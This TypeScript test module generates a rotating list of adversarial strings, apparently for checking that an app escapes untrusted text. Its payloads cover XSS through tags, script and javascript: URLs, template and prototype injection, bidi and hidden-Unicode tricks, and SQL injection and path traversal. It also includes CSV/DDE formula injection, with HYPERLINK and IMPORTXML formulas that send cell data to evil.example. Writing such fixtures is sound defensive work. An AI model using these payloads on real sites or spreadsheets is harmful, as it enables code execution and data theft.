/**
 * Texts that try to run, to reverse the reading direction, to hide, or to be taken for a formula: the same ones each
 * time.
 */

/** The function that a payload calls if it runs. */
export const TRAP = 'fieldkitTrap';

const CALLS = [
  `${TRAP}(1)`,
  `window.${TRAP}(2)`,
  `self['${TRAP}'](3)`,
  `top.${TRAP}\`4\``,
  `[1].map(${TRAP})`,
  `setTimeout('${TRAP}(5)')`,
  `(0,eval)('${TRAP}(6)')`,
  `import('data:text/javascript,${TRAP}(7)')`,
] as const;

type Shape = (call: string, salt: number) => string;

const EVENTS = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onbeforetoggle',
  'onpointerenter',
  'onscrollend',
] as const;
const TAGS = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'marquee',
  'iframe src=x',
  'object data=x',
  'x-evil tabindex=1',
  'style',
  'math',
  'a href=#',
] as const;
const BIDI = [
  '\u202a',
  '\u202b',
  '\u202c',
  '\u202d',
  '\u202e',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u2069',
  '\u200e',
  '\u200f',
  '\u061c',
] as const;
const HIDDEN = [
  '\u200b',
  '\u200c',
  '\u200d',
  '\u2060',
  '\ufeff',
  '\u00ad',
  '\u180e',
  '\u{e0041}',
  '\ufe0f',
  '\u034f',
] as const;
const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '=1+1";=2',
  '="a",b',
  ' =1+1',
  '\u200b=1+1',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(1)',
  '%0A=1+1',
  '"=1+1',
  "'=1+1",
  ';=1+1',
  '=IMPORTXML("https://evil.example","//a")',
  '=1+1\r\n=2+2',
  '=DDE("cmd";"/C calc";"x")',
] as const;

/** By kind. Each call of a shape with another salt returns another payload. */
const SHAPES: Readonly<Record<string, readonly Shape[]>> = {
  tags: TAGS.flatMap((tag) =>
    EVENTS.map(
      (event): Shape =>
        (call) =>
          `<${tag} ${event}=${call}>`,
    ),
  ),
  scripts: [
    (call) => `<script>${call}</script>`,
    (call) => `</title><script>${call}</script>`,
    (call) => `"><script>${call}</script>`,
    (call) => `'><script>${call}//`,
    (call) => `</textarea><script>${call}</script>`,
    (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
    (call) => `<script src="data:text/javascript,${call}"></script>`,
    (call) => `<!--><script>${call}</script>-->`,
    (call) => `]]><script>${call}</script>`,
    (call) => `<template><script>${call}</script></template>`,
    (call) => `<template shadowrootmode=open><script>${call}</script></template>`,
    (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
    (call) => `" autofocus onfocus="${call}`,
    (call) => `' onclick='${call}`,
    (call) => `x" style="animation:x" onanimationstart="${call}"`,
    (call) => `\` onmouseover=\`${call}`,
  ],
  urls: [
    (call) => `javascript:${call}`,
    (call) => `JaVaScRiPt:${call}`,
    (call) => `java\tscript:${call}`,
    (call) => `\u0001javascript:${call}`,
    (call) => `data:text/html,<script>${call}</script>`,
    (call) => `vbscript:${call}`,
    (call) => `https://x@evil.example/#${call}`,
    (call) => `//evil.example/${call}`,
    (call) => `../../${call}`,
    (call) => `?__proto__[x]=${call}`,
    (call) => `%3Cscript%3E${encodeURIComponent(call)}%3C/script%3E`,
    (call) => `blob:${call}`,
  ],
  templates: [
    (call) => `\${${call}}`,
    (call) => `{{${call}}}`,
    (call) => `{{constructor.constructor('${call}')()}}`,
    (call) => `<%= ${call} %>`,
    (call) => `#{${call}}`,
    (call) => `<!--?lit$123$-->${call}`,
    (call) => `lit$0123$${call}`,
    (call) => `\${alert\`x\`}${call}`,
    (call) => `[[${call}]]`,
    (call) => `{%raw%}${call}`,
    (call) => `$$\{${call}}$$`,
    () => '__proto__',
    () => 'constructor',
    () => 'toString',
    (call) => `\\u003cscript\\u003e${call}`,
    (call) => `@click=${call}`,
    (call) => `.innerHTML=${call}`,
  ],
  svg: [
    (call) => `<svg><script>${call}</script></svg>`,
    (call) => `<svg onload=${call}>`,
    (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
    (call) => `<svg><a xlink:href="javascript:${call}"><text>x</text></a></svg>`,
    (call) => `<svg><foreignObject><iframe onload=${call}></foreignObject></svg>`,
    (call) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x"/></svg>`,
    (call) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
    (call) => `<svg><style><img src=x onerror=${call}></style>`,
  ],
  entities: [
    (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
    (call) => `&#60;script&#62;${call}&#60;/script&#62;`,
    (call) => `&#x3c;img src=x onerror=${call}&#x3e;`,
    (call) => `&amp;lt;b&amp;gt;${call}`,
    (call) => `&quot; onload=${call}`,
    (call) => `&NewLine;javascript&colon;${call}`,
    (call) => `<a href="&#106;avascript:${call}">`,
  ],
  bidi: BIDI.flatMap((control): Shape[] => [
    (_, salt) => `${control}gpj.exe${salt}`,
    (_, salt) => `Ward ${control}${salt} cba${control}`,
    (call, salt) => `${control}${control}<b>${call}${salt}`,
  ]),
  hidden: HIDDEN.flatMap((mark): Shape[] => [
    (_, salt) => `Wa${mark}rd ${salt}`,
    (call, salt) => `<scr${mark}ipt>${call}${salt}</scr${mark}ipt>`,
    (_, salt) => `${mark.repeat(20)}x${salt}`,
  ]),
  csv: FORMULAS.map(
    (formula): Shape =>
      (_, salt) =>
        `${formula}${salt}`,
  ),
  long: [
    (call, salt) => `${'<b>'.repeat(300)}${call}${salt}`,
    (call, salt) => `${'A'.repeat(4000)}<script>${call}${salt}</script>`,
    (_, salt) => `Z${'\u0301'.repeat(400)}${salt}`,
    (_, salt) => `${'\u{1f468}\u200d'.repeat(200)}${salt}`,
    (_, salt) => `${'&'.repeat(1000)}${salt}`,
    (_, salt) => `${'\u202e'.repeat(500)}${salt}`,
  ],
  odd: [
    (_, salt) => `undefined-${salt}x`,
    (_, salt) => `\ud83d${salt}`,
    (_, salt) => `\udc00${salt}`,
    (_, salt) => `\u2028${salt}\u2029x`,
    (_, salt) => `\u0007\u001b[31m${salt}`,
    (_, salt) => `'; DROP TABLE devices;--${salt}`,
    (_, salt) => `\uffff\ufffd${salt}`,
    (_, salt) => `../../etc/passwd${salt}`,
    (_, salt) => `\ufdfd${salt}`,
    (_, salt) => `null${salt}`,
  ],
};

export interface Payload {
  readonly kind: string;
  readonly text: string;
}

/**
 * Returns distinct payloads. The kinds alternate, so that the beginning of the list contains all of them; long ones are
 * rarer.
 */
export function payloads(count: number): Payload[] {
  const kinds = Object.entries(SHAPES);
  const made = new Set<string>();
  const list: Payload[] = [];
  for (let turn = 0; list.length < count; turn += 1) {
    for (const [kind, shapes] of kinds) {
      if (kind === 'long' && turn % 12 !== 0) continue;
      const round = Math.floor(turn / shapes.length);
      const plain = shapes[turn % shapes.length]!(CALLS[(turn + round) % CALLS.length]!, turn);
      const text = made.has(plain) ? `${plain}${turn}` : plain;
      made.add(text);
      list.push({ kind, text });
      if (list.length === count) break;
    }
  }
  return list;
}
